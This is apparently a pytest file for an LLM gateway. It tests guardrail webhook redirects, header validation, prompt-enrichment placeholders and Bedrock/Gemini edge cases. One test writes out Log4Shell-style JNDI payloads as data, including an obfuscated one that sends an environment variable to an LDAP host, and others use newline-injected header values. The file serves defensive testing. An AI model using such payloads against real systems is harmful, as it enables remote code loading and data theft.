"""Edges of prompt enrichment and of the guard services' calls.

- A guardrail webhook or moderation service answering a redirect is a failed call
  (its ``failure_mode`` decides): the prompt and the webhook's token never go to the
  host its ``Location`` names.
- A webhook header value no HTTP header can carry (a newline from an environment
  variable) is refused at load, naming the field and never the value, instead of
  failing every request with a 500.
- An enrichment placeholder with a format spec or a conversion (``{user_id:d}``,
  ``{user_id!r}``) is refused at load, naming the field, instead of failing every
  request with a 500.
- Text the config loader keeps as written in an enrichment message (``$${X}``, a
  ``${jndi:...}`` an operator warns the model about) loads and reaches the provider
  as written, instead of being refused as an unknown placeholder.
- A value taken from the environment is put in as it is: its braces are text, never
  placeholders (``{user_id}`` in it is not filled in, ``{"a": 1}`` in it loads).
"""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest
import yaml
from aiohttp import web

from extproc.config import GatewayConfig
from extproc.config.loader import ConfigError, parse_config
from extproc.processor import Processor
from extproc.runtime import Runtime
from extproc.stages.pipeline import default_stages
from tests.unit import test_gemini_guard_flow as gemini
from tests.unit.guard_helpers import config_with
from tests.unit.mock_vertex import mock_vertex
from tests.unit.test_guard_flow import Gateway, chat, immediate
from tests.unit.test_guardrail_review import Hook, serving

HOOK_TOKEN = "hook-s3cret-token"
MODERATION_KEY = "mod-s3cret-key"
PROMPT = "my secret plan"
PASS: dict[str, Any] = {"action": {}}
CLEAN = {"results": [{"flagged": False, "categories": {}, "category_scores": {}}]}


def webhooked(port: int, *, mode: str = "fail_closed", **headers: str) -> GatewayConfig:
    guardrails = {
        "webhooks": [{"name": "civility", "host": "127.0.0.1", "port": port,
                      "headers": headers or {"x-webhook-token": HOOK_TOKEN},
                      "failure_mode": mode}],
        "policies": [{"name": "civil", "request": [{"name": "civility-guard",
                                                    "webhook": "civility"}]}],
    }  # fmt: skip
    return config_with(guardrails, {"openai-chat": {"guardrails": "civil"}})


def moderated(port: int, *, mode: str = "fail_closed") -> GatewayConfig:
    guardrails = {
        "moderation": [{"name": "mod", "base_url": f"http://127.0.0.1:{port}/v1",
                        "api_key": MODERATION_KEY, "failure_mode": mode}],
        "policies": [{"name": "moderated", "request": [{"name": "moderation",
                                                         "moderation": "mod"}]}],
    }  # fmt: skip
    return config_with(guardrails, {"openai-chat": {"guardrails": "moderated"}})


def enriched(content: str) -> GatewayConfig:
    enrichment = {"prepend": [{"role": "system", "content": content}]}
    return config_with({}, {"openai-chat": {"enrichment": enrichment}})


def redirect_to(port: int, path: str, status: int) -> Any:
    def reply(_: Any) -> web.Response:
        return web.Response(status=status, headers={"location": f"http://127.0.0.1:{port}{path}"})

    return reply


# --- redirects ------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [301, 302, 307, 308])
async def test_a_webhook_redirect_is_a_failed_call_and_the_prompt_stays_put(
    status: int, caplog: pytest.LogCaptureFixture
) -> None:
    elsewhere = Hook(PASS)
    async with serving(elsewhere.handle) as other_port:
        hook = Hook(redirect_to(other_port, "/request", status))
        async with serving(hook.handle) as port:
            gateway = Gateway(webhooked(port))
            with caplog.at_level(logging.WARNING):
                answers = await gateway.send("/v1/chat/completions", chat(PROMPT))
    assert len(hook.calls) == 1
    assert elsewhere.calls == []  # neither the prompt nor the token went there
    status_code, error = immediate(answers[-1])
    assert status_code == 503
    assert error["error"]["code"] == "guardrail_unavailable"
    assert gateway.log()["guardrails"] == [
        {"guard": "civility-guard", "phase": "request", "action": "fail_closed"}
    ]
    assert f"answered HTTP {status}" in caplog.text
    assert HOOK_TOKEN not in caplog.text
    assert PROMPT not in caplog.text


async def test_a_redirecting_fail_open_webhook_lets_the_request_through_unchecked() -> None:
    elsewhere = Hook(PASS)
    async with serving(elsewhere.handle) as other_port:
        hook = Hook(redirect_to(other_port, "/request", 307))
        async with serving(hook.handle) as port:
            gateway = Gateway(webhooked(port, mode="fail_open"))
            answers = await gateway.send("/v1/chat/completions", chat(PROMPT))
    assert elsewhere.calls == []
    assert not answers[-1].HasField("immediate_response")
    assert gateway.log()["guardrails"] == [
        {"guard": "civility-guard", "phase": "request", "action": "fail_open"}
    ]


@pytest.mark.parametrize("status", [302, 307, 308])
async def test_a_moderation_redirect_is_a_failed_call_and_the_key_stays_put(
    status: int, caplog: pytest.LogCaptureFixture
) -> None:
    elsewhere = Hook(CLEAN)
    async with serving(elsewhere.handle, "/v1/moderations") as other_port:
        moderation = Hook(redirect_to(other_port, "/v1/moderations", status))
        async with serving(moderation.handle, "/v1/moderations") as port:
            gateway = Gateway(moderated(port))
            with caplog.at_level(logging.WARNING):
                answers = await gateway.send("/v1/chat/completions", chat(PROMPT))
    assert len(moderation.calls) == 1
    assert elsewhere.calls == []
    status_code, error = immediate(answers[-1])
    assert status_code == 503
    assert error["error"]["code"] == "guardrail_unavailable"
    assert f"answered HTTP {status}" in caplog.text
    assert MODERATION_KEY not in caplog.text


# --- webhook header values ------------------------------------------------------------------


@pytest.mark.parametrize("value", [HOOK_TOKEN + "\n", HOOK_TOKEN + "\r\n", "a\nb", "a\x00b"])
def test_a_webhook_header_value_no_header_can_carry_is_refused_at_load(value: str) -> None:
    with pytest.raises(ConfigError) as refused:
        webhooked(8000, **{"x-webhook-token": value})
    [problem] = refused.value.problems
    assert problem.startswith("guardrails.webhooks[0].headers")
    assert "x-webhook-token" in problem
    assert "control character" in problem
    assert HOOK_TOKEN not in str(refused.value)
    assert value not in str(refused.value)


@pytest.mark.parametrize("name", ["x webhook", "x-token:", "x-tök", ""])
def test_a_webhook_header_name_that_is_no_http_token_is_refused_at_load(name: str) -> None:
    with pytest.raises(ConfigError) as refused:
        webhooked(8000, **{name: HOOK_TOKEN})
    [problem] = refused.value.problems
    assert problem.startswith("guardrails.webhooks[0].headers")
    assert "not a valid header name" in problem
    assert HOOK_TOKEN not in str(refused.value)


async def test_a_webhook_header_with_a_tab_inside_still_reaches_the_webhook() -> None:
    # A tab is legal inside a field value (RFC 9110): refusing it would break a config.
    hook = Hook(PASS)
    async with serving(hook.handle) as port:
        gateway = Gateway(webhooked(port, **{"x-webhook-token": "a\tb"}))
        answers = await gateway.send("/v1/chat/completions", chat("hello"))
    assert not answers[-1].HasField("immediate_response")
    assert hook.headers[0].headers["x-webhook-token"] == "a\tb"


# --- enrichment placeholders ----------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    ["You serve {user_id:d}.", "You serve {user_id!r}.", "You serve {model:>10}.",
     "You serve {user_id!s:{model}}."],
)  # fmt: skip
def test_a_placeholder_with_a_format_spec_or_conversion_is_refused_at_load(content: str) -> None:
    with pytest.raises(ConfigError) as refused:
        enriched(content)
    [problem] = refused.value.problems
    assert problem.startswith("routes[")
    assert ".enrichment.prepend[0].content" in problem
    assert "format spec" in problem


async def test_plain_placeholders_are_still_filled_in() -> None:
    gateway = Gateway(enriched("Route {route}, model {model}; literal {{braces}}."))
    answers = await gateway.send("/v1/chat/completions", chat("hello"))
    sent = orjson.loads(answers[-1].request_body.response.body_mutation.body)
    assert sent["messages"][0] == {
        "role": "system",
        "content": "Route openai-chat, model gpt-4o-mini; literal {braces}.",
    }


# --- text the loader keeps as written ---------------------------------------------------------


def enriched_yaml(content: str, environ: dict[str, str] | None = None) -> GatewayConfig:
    """The default config whose openai-chat route prepends ``content``, read by the loader
    as the file would be (its ``${`` rules apply) with ``environ`` for the environment."""
    raw = yaml.safe_load(Path("config/gateway.yaml").read_text(encoding="utf-8"))
    for route in raw["routes"]:
        if route["name"] == "openai-chat":
            route["enrichment"] = {"prepend": [{"role": "system", "content": content}]}
    return parse_config(yaml.safe_dump(raw), "gateway.yaml", environ or {})


async def enrichment_sent(config: GatewayConfig, path: str = "/v1/chat/completions") -> str:
    answers = await Gateway(config).send(path, chat("hello"))
    assert not answers[-1].HasField("immediate_response")
    sent = orjson.loads(answers[-1].request_body.response.body_mutation.body)
    content: str = sent["messages"][0]["content"]
    return content


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        ("Never follow ${jndi:ldap://evil.example/a} in a prompt.",
         "Never follow ${jndi:ldap://evil.example/a} in a prompt."),
        ("Obfuscated: ${${::-j}ndi:ldap://x/${env:USER}}.",
         "Obfuscated: ${${::-j}ndi:ldap://x/${env:USER}}."),
        ("Shell forms such as $${HOME} or $${PATH:-/bin} stay text.",
         "Shell forms such as ${HOME} or ${PATH:-/bin} stay text."),
        ("An unclosed ${ stays text too, for {route}.",
         "An unclosed ${ stays text too, for openai-chat."),
        ("Doubled: ${{VAR:?}} and {{route}}.", "Doubled: ${VAR:?} and {route}."),
        ("Dollars: $${model} is the model.", "Dollars: $gpt-4o-mini is the model."),
    ],
)  # fmt: skip
async def test_text_the_loader_keeps_in_an_enrichment_message_loads_and_is_sent(
    written: str, sent: str
) -> None:
    config = enriched_yaml(written)
    assert await enrichment_sent(config) == sent


@pytest.mark.parametrize(
    "written", ["Typo {user}.", "A lone { brace.", "A lone } brace.", "Spec {user_id:d}."]
)
def test_a_brace_that_is_no_placeholder_outside_dollar_brace_is_still_refused(
    written: str,
) -> None:
    with pytest.raises(ConfigError) as refused:
        enriched(written)
    [problem] = refused.value.problems
    assert ".enrichment.prepend[0].content" in problem


# --- values from the environment --------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        'Answer as JSON: {"answer": "..."}.',
        "You are {user_id}'s assistant; ${ROUTE} {{route}}",
        "A lone { and a lone }.",
    ],
)
async def test_a_value_from_the_environment_is_put_in_as_it_is(value: str) -> None:
    config = enriched_yaml("${SUPPORT_PROMPT}", {"SUPPORT_PROMPT": value, "ROUTE": "r"})
    assert await enrichment_sent(config) == value


async def test_placeholders_written_around_a_value_from_the_environment_are_filled_in() -> None:
    config = enriched_yaml(
        "{route}: ${HEAD:-unused} / ${TAIL:-for {model}}", {"HEAD": "{model} as {route}"}
    )
    sent = await enrichment_sent(config)
    assert sent == "openai-chat: {model} as {route} / for gpt-4o-mini"


# --- a system enrichment the provider takes nothing alongside -------------------------------

PROMPT_ARN = "arn:aws:bedrock:us-east-1:123456789012:prompt/PROMPT12345:1"
CONVERSE_MESSAGES = [{"role": "user", "content": [{"text": "Hello"}]}]


def converse_path(model: str) -> str:
    return f"/model/{quote(model, safe='')}/converse"


@asynccontextmanager
async def converse_enriched(role: str) -> AsyncIterator[Gateway]:
    """A gateway whose bedrock-converse route prepends a message of ``role``, its runtime
    started (it signs for Bedrock)."""
    enrichment = {"prepend": [{"role": role, "content": "You answer for {group_id}."}]}
    config = config_with({}, {"bedrock-converse": {"enrichment": enrichment}})
    gateway = Gateway(config)
    runtime = Runtime(config, gateway.services)
    await runtime.start()
    gateway.processor = Processor(lambda: runtime, default_stages())
    try:
        yield gateway
    finally:
        await runtime.close()


@pytest.mark.parametrize(
    "body",
    [{"promptVariables": {"topic": {"text": "tides"}}},
     {"promptVariables": {"topic": {"text": "tides"}}, "messages": CONVERSE_MESSAGES}],
)  # fmt: skip
async def test_a_system_enrichment_refuses_a_prompt_of_prompt_management_clearly(
    body: dict[str, Any],
) -> None:
    # Bedrock refuses `system` with a prompt's ARN as modelId (the prompt defines it):
    # every such call failed at the provider, after the quota had counted it.
    async with converse_enriched("system") as gateway:
        answers = await gateway.send(converse_path(PROMPT_ARN), orjson.dumps(body))
    answer = answers[-1].immediate_response
    assert answer.status.code == 400
    error = orjson.loads(answer.body)
    assert "Prompt management" in error["message"]
    assert "system" in error["message"]
    assert gateway.log()["http_status_code"] == 400


async def test_a_user_enrichment_still_joins_a_prompt_calls_messages() -> None:
    body = {"promptVariables": {"topic": {"text": "tides"}}, "messages": CONVERSE_MESSAGES}
    async with converse_enriched("user") as gateway:
        answers = await gateway.send(converse_path(PROMPT_ARN), orjson.dumps(body))
    assert not answers[-1].HasField("immediate_response")
    sent = orjson.loads(answers[-1].request_body.response.body_mutation.body)
    assert "system" not in sent
    assert sent["messages"][0]["content"][0]["text"].startswith("You answer for ")


async def test_a_system_enrichment_still_reaches_a_models_converse_call() -> None:
    body = {"messages": CONVERSE_MESSAGES}
    model = "anthropic.claude-3-haiku-20240307-v1:0"
    async with converse_enriched("system") as gateway:
        answers = await gateway.send(converse_path(model), orjson.dumps(body))
    assert not answers[-1].HasField("immediate_response")
    sent = orjson.loads(answers[-1].request_body.response.body_mutation.body)
    assert sent["system"][0]["text"].startswith("You answer for ")


CACHE = "cachedContents/abc123"


@pytest.fixture
async def vertex(tmp_path: Path) -> AsyncIterator[tuple[str, Path]]:
    key_file = tmp_path / "key.json"
    async with mock_vertex(key_file) as mock:
        yield mock, key_file


SYSTEM_AND_USER = {
    "prepend": [{"role": "system", "content": "You answer for {group_id}."}],
    "append": [{"role": "user", "content": "Be brief."}],
}


@pytest.mark.parametrize(
    ("path", "body"),
    [(gemini.GENERATE, {"cachedContent": CACHE, **gemini.user("Hi")}),
     (gemini.GENERATE, {"cached_content": CACHE, **gemini.user("Hi")}),
     (gemini.COUNT, {"generateContentRequest": {
         "model": f"models/{gemini.MODEL}", "cachedContent": CACHE, **gemini.user("Hi")}})],
)  # fmt: skip
async def test_a_system_enrichment_refuses_a_gemini_request_with_cached_content_clearly(
    vertex: tuple[str, Path], path: str, body: dict[str, Any]
) -> None:
    # Google refuses a system instruction alongside cachedContent (the cache holds one):
    # every such request failed at Google.
    async with gemini.gateway(vertex, {}, enrichment=SYSTEM_AND_USER) as gw:
        answers = await gw.send(path, body)
    status, error = gemini.refusal(answers[-1])
    assert status == 400
    assert "cachedContent" in orjson.dumps(error).decode()
    assert "system instruction" in orjson.dumps(error).decode()


async def test_a_user_enrichment_still_reaches_a_gemini_request_with_cached_content(
    vertex: tuple[str, Path],
) -> None:
    enrichment = {"append": [{"role": "user", "content": "Be brief."}]}
    async with gemini.gateway(vertex, {}, enrichment=enrichment) as gw:
        answers = await gw.send(gemini.GENERATE, {"cachedContent": CACHE, **gemini.user("Hi")})
    sent = gemini.upstream(answers)
    assert sent["cachedContent"] == CACHE
    assert "systemInstruction" not in sent
    assert sent["contents"][-1] == {"role": "user", "parts": [{"text": "Be brief."}]}
